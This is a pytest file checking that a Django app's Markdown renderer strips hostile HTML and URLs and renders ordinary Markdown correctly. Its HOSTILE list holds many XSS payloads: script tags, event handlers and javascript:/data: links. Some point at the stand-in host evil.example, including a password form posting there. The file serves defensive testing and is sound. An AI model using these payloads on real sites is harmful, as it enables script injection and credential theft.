"""Members' Markdown is rendered, and can do nothing else."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.template import Context, Template

from campaigns.markdown import ATTRIBUTES, SCHEMES, TAGS, render
from campaigns.models import TEXT_LENGTH

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "![x](https://evil.example/track.png)",
    '![x](x "onerror=alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example\"onmouseover='alert(1)')",
    '[x](<https://a.example" onclick="alert(1)>)',
    "[a]: javascript:alert(1)\n\n[a]",
    '<div hx-get="/account/sign-out/" hx-trigger="load">x</div>',
    "<div data-hx-post=/chronicles/new/ data-hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<a href=https://a.example hx-boost=true class=primary id=main style=position:fixed>x</a>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "```<script>\nalert(1)\n```",
    '```"onmouseover=alert(1) x\ncode\n```',
    "`<script>alert(1)</script>`",
    "> - [x](javascript:alert(1))\n>   <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "**<b onclick=alert(1)>x</b>**",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "\u0000<script>alert(1)</script>",
    "<script\u2028>alert(1)</script>",
    "{{ 7|add:'7' }}{% csrf_token %}",
]


class Reader(HTMLParser):
    """Collects what a browser would make of the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    return reader.tags


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text: str) -> None:
    for tag, attributes in tags_of(render(text)):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert urlsplit(attributes.get("href") or "").scheme in SCHEMES | {""}


def test_what_is_meant_is_shown() -> None:
    html = render(
        "# The night\n\nA **strong** and *soft* word.\n\n- one\n- two\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n~~gone~~"
    )
    assert "<h3>The night</h3>" in html
    assert "<strong>strong</strong> and <em>soft</em>" in html
    assert html.count("<li>") == 2
    assert html.count("<td>") == 2
    assert "<s>gone</s>" in html


def test_headings_never_climb_above_the_page() -> None:
    assert render("##### deep") == "<h6>deep</h6>\n"


def test_links_take_nothing_with_them() -> None:
    assert (
        render("[x](https://a.example)")
        == '<p><a href="https://a.example" rel="noopener nofollow noreferrer">x</a></p>\n'
    )


def test_raw_html_is_text() -> None:
    assert render("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_the_filter_takes_nothing_at_all() -> None:
    template = Template("{% load markdown %}{{ text|markdown }}")
    assert template.render(Context({"text": None})) == ""
    assert template.render(Context({"text": "*x*"})) == "<p><em>x</em></p>\n"


@pytest.mark.parametrize(
    "piece", ["[", "![", ">", "`a", "*a_ ", "[a](", "|-", "<", "- ", "&#x;", "_", "a**b c* ", "~~a", "\\", "[a][b]"]
)
def test_the_worst_text_is_quick_enough(piece: str) -> None:
    started = time.thread_time()
    render((piece * TEXT_LENGTH)[:TEXT_LENGTH])
    assert time.thread_time() - started < 5  # quadratic time takes minutes


def test_what_is_longer_than_a_note_is_cut_off() -> None:
    assert "end" not in render("a" * TEXT_LENGTH + "end")
